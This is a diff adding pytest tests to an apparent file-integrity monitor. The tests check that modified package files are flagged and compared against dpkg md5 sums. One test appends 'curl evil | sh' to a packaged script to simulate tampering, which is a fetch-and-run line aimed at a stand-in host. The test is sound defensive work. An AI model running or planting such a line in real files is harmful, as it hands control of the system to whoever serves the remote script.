@@ -197,3 +197,37 @@ def test_a_critical_file_in_a_new_directory_is_told_on_its_own(root):
         "(2 entries below)",
         f"/usr/lib/modules/6.12.0-1-amd64/extra/hid-x.ko: new file, mode 0644, {_me()}"]
     assert report._critical(conf, "/usr/lib/modules/6.12.0-1-amd64/extra/hid-x.ko")
+
+
+def _package(root, name, files):
+    """``name`` installed, shipping ``files`` ({logical path: content})."""
+    import hashlib
+    root.write("/var/lib/dpkg/status", f"Package: {name}\nStatus: install ok installed\n"
+               "Architecture: amd64\nVersion: 1.0\n\n")
+    dirs = sorted({os.path.dirname(p) for p in files} | {"/usr"})
+    root.write(f"/var/lib/dpkg/info/{name}.list", "/.\n" + "".join(
+        f"{p}\n" for p in dirs + sorted(files)))
+    root.write(f"/var/lib/dpkg/info/{name}.md5sums", "".join(
+        f"{hashlib.md5(data.encode()).hexdigest()}  {p[1:]}\n" for p, data in files.items()))
+
+
+def test_a_changed_package_file_says_whether_it_still_matches_dpkgs_sums(system):
+    root, conf = system
+    _package(root, "tool", {"/usr/bin/tool": "#!/bin/sh\necho tool\n"})
+    path = root.host("/usr/bin/tool")
+    with open(path, "a") as tool:
+        tool.write("curl evil | sh\n")
+    found = trees.run(root.settings(), conf).records
+    assert [r.line() for r in found] == [
+        "/usr/bin/tool: content changed (20 -> 35 bytes); differs from tool's sums"]
+    assert found[0].rank == records.SERIOUS
+    # Put back as it was, its times moved: the same content again.
+    with open(path, "w") as tool:
+        tool.write("#!/bin/sh\necho tool\n")
+    assert [r.line() for r in trees.run(root.settings(), conf).records] == [
+        "/usr/bin/tool: content changed (35 -> 20 bytes); still matches tool's sums"]
+    # A file no package ships is told as it is.
+    with open(root.host("/opt/app/run"), "a") as run:
+        run.write("exit 0\n")
+    assert [r.line() for r in trees.run(root.settings(), conf).records] == [
+        "/opt/app/run: content changed (10 -> 17 bytes)"]
